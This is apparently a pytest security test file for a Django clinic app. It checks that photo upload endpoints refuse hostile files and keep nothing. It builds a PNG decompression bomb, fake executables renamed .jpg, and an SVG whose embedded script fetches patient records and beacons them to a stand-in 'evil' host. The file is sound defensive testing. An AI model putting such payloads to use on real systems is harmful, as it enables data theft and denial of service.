"""Hostile files at every endpoint that accepts one: each is refused in plain words and nothing is kept.

Endpoints: the capture page (``outcomes:capture``), its quality pre-check (``outcomes:precheck``) and the
API upload (``POST /api/v1/outcomes/patients/{id}/photos``).
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse
from PIL import Image

from mesoclinic.accounts.models import Clinic, StaffMember
from mesoclinic.outcomes.models import Photo
from mesoclinic.patients.models import Patient
from mesoclinic.testing import client_for, make_patient
from tests.security.world import photo_bytes

pytestmark = pytest.mark.django_db

SMALL_LIMIT = 300_000  # bytes: PHOTO_MAX_BYTES for these tests, so an "oversized" photo stays cheap to build


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def decompression_bomb() -> bytes:
    """A 200-byte PNG that claims 60 000 × 60 000 RGB pixels (10 GB once decoded)."""
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1024, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00" + b"\x90" * 4000


def pe_executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 52 + b"\x80\x00\x00\x00" + b"PE\0\0" + b"\xcc" * 4000


def oversized() -> bytes:
    """A real, readable photo just over the byte limit (noise does not compress)."""
    rng = np.random.default_rng(1)
    out = io.BytesIO()
    Image.fromarray((rng.random((700, 700, 3)) * 255).astype(np.uint8)).save(out, "PNG")
    data = out.getvalue()
    assert len(data) > SMALL_LIMIT
    return data


def truncated() -> bytes:
    data = photo_bytes(512)
    return data[: len(data) // 2]


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="800">'
        b"<script>fetch('/api/v1/patients').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))</script>"
        b'<rect width="800" height="800"/></svg>'
    )


ATTACKS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # name: (file body, file name, words the refusal must contain)
    "decompression bomb": (decompression_bomb, "face.png", "decompression bomb"),
    "ELF renamed .jpg": (elf_executable, "face.jpg", "not an image file"),
    "PE renamed .jpg": (pe_executable, "face.jpg", "not an image file"),
    "oversized": (oversized, "face.png", "larger than"),
    "truncated": (truncated, "face.jpg", "damaged or truncated"),
    "SVG with script": (svg_with_script, "face.svg", "not an image file"),
}


@pytest.fixture(autouse=True)
def media(tmp_path: Path) -> Iterator[Path]:
    root = tmp_path / "media"
    with override_settings(MEDIA_ROOT=str(root), PHOTO_MAX_BYTES=SMALL_LIMIT):
        yield root


@pytest.fixture
def patient(clinic: Clinic) -> Patient:
    """A patient with a signed consent that allows clinical photos (so only the file can be refused)."""
    from mesoclinic.catalog.models import Modality  # noqa: PLC0415
    from mesoclinic.patients.services import publish_consent_template, record_consent  # noqa: PLC0415

    patient = make_patient(clinic)
    modality = Modality.objects.get(clinic=clinic, code="needle")
    template = publish_consent_template(clinic, modality=modality, title="Needle", body="v1", actor=None)
    record_consent(patient, template=template, signed_by="Test Patient", actor=None)
    return patient


def stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def post(client: Client, endpoint: str, patient: Patient, name: str, body: bytes) -> Any:
    upload = SimpleUploadedFile(name, body, content_type="image/jpeg")
    if endpoint == "api":
        return client.post(
            f"/api/v1/outcomes/patients/{patient.pk}/photos", {"file": upload, "view": "front"}
        )
    url = reverse(f"outcomes:{endpoint}", args=[patient.pk])
    return client.post(url, {"file": upload, "view": "front", "skin_cleansed": "on"})


def refusal_text(endpoint: str, response: Any) -> str:
    if endpoint == "api":
        assert response.status_code == 422
        return " ".join(response.json()["errors"]["file"])
    assert response.status_code == (422 if endpoint == "capture" else 200)
    return response.content.decode()


@pytest.mark.parametrize("endpoint", ["capture", "precheck", "api"])
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_it_refuses_the_file_and_keeps_nothing(
    attack: str, endpoint: str, patient: Patient, practitioner: StaffMember, media: Path
) -> None:
    make_body, name, words = ATTACKS[attack]
    response = post(client_for(practitioner), endpoint, patient, name, make_body())
    assert words in refusal_text(endpoint, response)
    assert not Photo.objects.exists()
    assert stored_files(media) == []


def face_photo() -> bytes:
    """A real, measurable front view (a front view without a face is refused on upload)."""
    from mesoclinic.outcomes.analysis.portraits import studio_portrait  # noqa: PLC0415

    out = io.BytesIO()
    Image.fromarray((studio_portrait() * 255 + 0.5).astype(np.uint8)).save(out, "JPEG", quality=90)
    return out.getvalue()


def test_a_good_photo_still_goes_through(patient: Patient, practitioner: StaffMember, media: Path) -> None:
    """The control: the same request with a real face is stored (so the refusals above are the file's)."""
    with override_settings(PHOTO_MAX_BYTES=10 * SMALL_LIMIT):
        response = post(client_for(practitioner), "api", patient, "face.jpg", face_photo())
    assert response.status_code == 201
    assert Photo.objects.count() == 1
    assert len(stored_files(media)) == 2  # the photo and its thumbnail


def test_a_body_beyond_the_request_limit_is_refused_before_it_is_read(
    patient: Patient, practitioner: StaffMember, media: Path
) -> None:
    url = f"/api/v1/outcomes/patients/{patient.pk}/photos"
    response = client_for(practitioner).post(
        url,
        {"file": SimpleUploadedFile("f.jpg", photo_bytes()), "view": "front"},
        CONTENT_LENGTH=str(10 * 1024**3),
    )
    assert response.status_code == 413
    assert "too large" in response.content.decode()
    assert not Photo.objects.exists()
